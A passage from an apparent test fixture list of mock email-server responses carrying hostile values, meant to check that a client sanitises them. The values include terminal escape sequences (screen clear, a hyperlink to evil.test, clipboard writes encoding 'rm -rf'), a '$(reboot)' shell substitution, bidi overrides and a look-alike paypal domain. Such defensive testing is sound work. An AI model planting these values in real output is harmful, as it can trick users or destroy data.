    ServerCase("addr-no-at", "an address without @", "get_email_address", setting("email_addr", "nobody")),
    ServerCase("addr-user-escape", "email_user with a CSI clear screen", "get_email_address",
               setting("email_user", "\x1b[2Jbox")),
    ServerCase("addr-domain-field", "email_domain with an OSC 8 hyperlink", "get_email_address",
               setting("email_domain", "\x1b]8;;https://evil.test\x1b\\b.test")),
    ServerCase("domains-escape", "the domain list holds an OSC 52 clipboard write", "get_domains",
               setting("domains", ["a.test", "b\x1b]52;c;cm0gLXJm\x07.test"])),
    ServerCase("domains-shell", "the domain list holds $(reboot)", "get_domains",
               setting("domains", ["a.test", "$(reboot).test"])),
    ServerCase("domains-default-bidi", "defaultDomain with a right-to-left override", "get_domains",
               setting("defaultDomain", "\u202etset.live")),
    ServerCase("domains-idn-lookalike", "a Cyrillic look-alike domain in the list", "get_domains",
               setting("domains", ["a.test", "p\u0430ypal.test"])),
    ServerCase("error-osc", "an error text with OSC 52 and OSC 0", "get_email_address", status=400,
               body={"error": "\x1b]52;c;cm0gLXJm\x07\x1b]0;PWNED\x07Bad request"}, refused=False),
    ServerCase("error-invisible-flood", "an error text padded with invisible characters", "get_email_address",
               status=500, body={"error": "\u200b\u3164" * 3000 + "Try later"}, refused=False),
    ServerCase("header-expiry-escape", "X-Session-Expires-At carrying an escape sequence", "get_email_address",
               header=("X-Session-Expires-At", "\x1b[2J99999999999999"), refused=False),
]
